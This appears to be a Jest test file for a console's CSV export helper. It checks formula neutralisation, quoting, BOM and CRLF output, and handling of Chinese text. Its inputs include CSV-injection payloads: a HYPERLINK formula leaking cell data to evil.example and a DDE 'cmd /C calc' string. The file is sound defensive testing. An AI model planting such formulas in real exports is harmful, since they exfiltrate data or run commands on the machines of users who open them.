import { csvCell, csvDocument, toCsv, UTF8_BOM } from '@apps/console/web/src/shared/export/csv';

/** What a spreadsheet would see as the cell's first character once it has unquoted it. */
const unquoted = (cell: string): string => cell.slice(1, -1).replaceAll('""', '"');

describe('the console’s CSV export (one helper for every table)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"点击")'],
    ["+1+cmd|' /C calc'!A0"],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    ['＝1+1'],
    ['＋86 138 0013 8000'],
    ['－1'],
    ['＠SUM(A1)'],
  ])('prefixes a formula-like cell %j with a quote so it stays text', (hostile) => {
    const cell = csvCell(hostile);
    expect(unquoted(cell)).toBe(`'${hostile}`);
    expect(cell.startsWith('"\'')).toBe(true);
  });

  it.each([
    ['-12.5', '"-12.5"'],
    ['987654321098.76', '"987654321098.76"'],
    [String(2 ** 63), `"${2 ** 63}"`],
    [-42, '"-42"'],
    ['杭州联华贸易有限公司', '"杭州联华贸易有限公司"'],
    ['a=b', '"a=b"'],
    [' =not at the start', '" =not at the start"'],
    [null, '""'],
    [undefined, '""'],
  ])('leaves %j as it is (numbers stay numbers, Chinese untouched)', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('quotes every cell and doubles quotes, so commas, quotes and line breaks stay in their cell', () => {
    expect(csvCell('上海 "华东", 机电\r\n设备厂')).toBe('"上海 ""华东"", 机电\r\n设备厂"');
    expect(
      toCsv(
        ['名称', '金额'],
        [
          ['a,b', 1],
          ['"x"', -1],
        ],
      ),
    ).toBe('"名称","金额"\r\n"a,b","1"\r\n"""x""","-1"');
  });

  it('writes UTF-8 with a BOM, the header first, one CRLF line per row', () => {
    const rows = Array.from({ length: 1_000 }, (_, index) => ({
      name: index % 2 ? `客户 ${index} 有限公司` : `=cmd ${index}`,
      amount: 10n ** 20n + BigInt(index),
    }));
    const document = csvDocument(
      [
        { title: '客户名称', value: (row: (typeof rows)[number]) => row.name },
        { title: '金额', value: (row: (typeof rows)[number]) => row.amount },
      ],
      rows,
    );
    expect(document.startsWith(UTF8_BOM)).toBe(true);
    const bytes = Buffer.from(document, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = document.slice(1).split('\r\n');
    expect(lines).toHaveLength(1_001);
    expect(lines[0]).toBe('"客户名称","金额"');
    expect(lines[1]).toBe(`"'=cmd 0","100000000000000000000"`);
    expect(lines[2]).toBe('"客户 1 有限公司","100000000000000000001"');
    expect(Buffer.from(lines[2]!, 'utf8').toString('utf8')).toContain('有限公司');
  });
});
